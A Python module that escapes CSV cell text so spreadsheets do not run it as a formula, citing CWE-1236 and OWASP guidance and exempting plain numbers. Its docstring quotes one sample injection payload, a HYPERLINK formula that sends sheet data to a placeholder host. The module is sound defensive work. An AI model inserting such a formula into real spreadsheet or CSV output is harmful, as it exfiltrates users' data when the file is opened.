"""Text of CSV cells, kept from running as spreadsheet formulas.

Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula. Security guidance (CWE-1236, OWASP ASVS 5.0
requirement 1.2.10) adds a leading tab or carriage return, which some spreadsheets
skip before reading a formula. A cell taken from an imported file, such as
``=HYPERLINK("http://host/?"&A1)``, could otherwise send the sheet's data away
when the file is opened. The usual defence, used here, writes a single quote
before such text, and the spreadsheet shows that text instead of running it.
"""

from __future__ import annotations

import re

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number such as -61.5, +4, -0,25 or -1.5e3, which a spreadsheet
# reads as a number and never as a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def csv_cell_text(value: object) -> object:
    """Return ``value`` as written to a CSV cell, quoted out of formula syntax.

    Text that starts with one of ``FORMULA_PREFIXES`` gets a leading ``'``,
    unless it is a plain number such as ``-61.5``. Other values, and values
    that are not text, are returned unchanged.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value
